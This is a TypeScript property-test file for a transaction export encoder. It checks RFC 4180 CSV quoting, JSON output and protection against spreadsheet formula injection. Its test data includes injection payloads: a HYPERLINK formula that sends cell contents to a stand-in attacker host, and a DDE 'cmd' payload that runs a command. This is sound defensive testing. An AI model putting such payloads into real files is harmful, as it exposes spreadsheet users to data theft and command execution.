import fc from 'fast-check';
import { csvField, csvRecord, encoderFor, EXPORT_COLUMNS } from '../../../shared/usecases/transactions/export-format.js';
import type { TransactionRecord } from '../../../shared/usecases/transactions/ports.js';
import { presentTransaction } from '../../../shared/usecases/transactions/present.js';
import { parseCsv } from '../../support/csv.js';
import { aTransaction } from '../../support/fakes/transactions.js';

/** Strings weighted towards what CSV must quote, plus arbitrary Unicode (astral code points included). */
const nasty = fc.oneof(fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', 'a', ' ', '\t', ';', "'", '=') }), fc.string({ unit: 'binary' }), fc.string());

/** What a CSV cell must read (OWASP CSV injection): a quote before a text cell's leading =, +, -, @, tab or CR. */
const cellOf = (column: string, value: string | null): string =>
  value === null ? '' : !['amount', 'fee', 'net_amount', 'amount_usd'].includes(column) && /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;

describe('CSV writing (RFC 4180)', () => {
  it('quotes exactly the fields that contain a comma, a quote, CR or LF, doubling the quotes', () => {
    expect(['plain', 'a,b', 'say "hi"', 'line\nbreak', 'cr\r', '', ' spaced ', '-12.5', "O'Brien"].map(csvField)).toEqual([
      'plain',
      '"a,b"',
      '"say ""hi"""',
      '"line\nbreak"',
      '"cr\r"',
      '',
      ' spaced ',
      '-12.5',
      "O'Brien",
    ]);
    expect(csvField(null)).toBe('');
    expect(csvRecord(['a', null, 'b,c'])).toBe('a,,"b,c"\r\n');
  });

  it('is checked by a reader that refuses under-quoted text', () => {
    for (const bad of ['a\nb\r\n', 'a"b\r\n', '"a"b\r\n', '"open\r\n', 'no line end', 'a\rb\r\n']) expect(() => parseCsv(bad)).toThrow(SyntaxError);
    expect(parseCsv('"a,b","",c\r\n\r\n')).toEqual([['a,b', '', 'c'], ['']]);
  });

  it('round-trips arbitrary strings through a strict RFC 4180 reader', () => {
    fc.assert(
      fc.property(fc.array(fc.array(nasty, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 }), (records) => {
        // A record of one empty field is a blank line, which RFC 4180 readers take as one empty field: still exact.
        const text = records.map((r) => csvRecord(r)).join('');
        expect(parseCsv(text)).toEqual(records);
      }),
      { numRuns: 500 },
    );
  });

  it('writes whole transactions: a header row of the columns, then each record with its exact decimal strings', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.record({
            order_id: fc.option(nasty, { nil: null }),
            custom_id: fc.option(nasty, { nil: null }),
            amount: fc.stringMatching(/^\d{1,20}(\.\d{1,18})?$/),
          }),
          { maxLength: 20 },
        ),
        (variants) => {
          const records: TransactionRecord[] = variants.map((v, i) => aTransaction(i, v));
          const csv = encoderFor('csv');
          const text = csv.header + records.map((r, i) => csv.row(r, i)).join('') + csv.footer;
          const [header, ...rows] = parseCsv(text);
          expect(header).toEqual([...EXPORT_COLUMNS]);
          // The list's record (amounts spelled as the movement's record spells them), text cells safe for a spreadsheet.
          expect(rows).toEqual(records.map((r) => EXPORT_COLUMNS.map((c) => cellOf(c, presentTransaction(r)[c]))));
        },
      ),
      { numRuns: 200 },
    );
  });
});

describe('JSON writing', () => {
  it('writes one array of the records with the same keys, amounts as strings, nulls kept, parseable for any content', () => {
    fc.assert(
      fc.property(
        fc.array(fc.record({ order_id: fc.option(nasty, { nil: null }), amount: fc.stringMatching(/^\d{1,30}\.\d{1,18}$/) }), { maxLength: 15 }),
        (variants) => {
          const records = variants.map((v, i) => aTransaction(i, v));
          const json = encoderFor('json');
          const text = json.header + records.map((r, i) => json.row(r, i)).join('') + json.footer;
          const parsed = JSON.parse(text) as Record<string, unknown>[];
          expect(parsed).toEqual(records.map((r) => Object.fromEntries(EXPORT_COLUMNS.map((c) => [c, presentTransaction(r)[c]]))));
          for (const row of parsed) expect(Object.keys(row)).toEqual([...EXPORT_COLUMNS]);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('is an empty array for no records', () => {
    const json = encoderFor('json');
    expect(JSON.parse(json.header + json.footer)).toEqual([]);
    const csv = encoderFor('csv');
    expect(parseCsv(csv.header + csv.footer)).toEqual([[...EXPORT_COLUMNS]]);
  });
});

describe('exports are safe to open in a spreadsheet (OWASP CSV injection)', () => {
  const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '-1+1', '+1+1', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];

  it('writes every text cell that begins with =, +, -, @, tab or CR with a single quote in front, whatever the column', () => {
    const csv = encoderFor('csv');
    const column = (name: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(name);
    for (const [i, text] of formulas.entries()) {
      const record = aTransaction(i, { order_id: text, custom_id: text, transaction_hash: text, subtype: text, status: text, wallet_id: text });
      const [row] = parseCsv(csv.row(record, 0));
      for (const c of ['order_id', 'custom_id', 'transaction_hash', 'subtype', 'status', 'wallet_id'] as const) {
        expect([c, row?.[column(c)]]).toEqual([c, `'${text}`]);
      }
    }
    // Text that starts otherwise is left as it is, a quote inside it too.
    const [plain] = parseCsv(csv.row(aTransaction(1, { order_id: "order 7 = 3+4 O'Brien", custom_id: ' -1' }), 0));
    expect([plain?.[column('order_id')], plain?.[column('custom_id')]]).toEqual(["order 7 = 3+4 O'Brien", ' -1']);
  });

  it("leaves amounts as numbers: they are the gateway's own exact decimals, never a merchant's text", () => {
    const csv = encoderFor('csv');
    const [row] = parseCsv(csv.row(aTransaction(1, { amount: '5', fee: '0.25', net_amount: '4.75', amount_usd: '-1.5' }), 0));
    const at = (name: (typeof EXPORT_COLUMNS)[number]) => row?.[EXPORT_COLUMNS.indexOf(name)];
    expect([at('amount'), at('fee'), at('net_amount'), at('amount_usd')]).toEqual(['5.000000', '0.250000', '4.750000', '-1.5']);
  });

  it('keeps JSON exports as they are: JSON is not read as formulas', () => {
    const json = encoderFor('json');
    const parsed = JSON.parse(json.header + json.row(aTransaction(1, { order_id: formulas[0] ?? '' }), 0) + json.footer) as { order_id: string }[];
    expect(parsed[0]?.order_id).toBe(formulas[0]);
  });
});
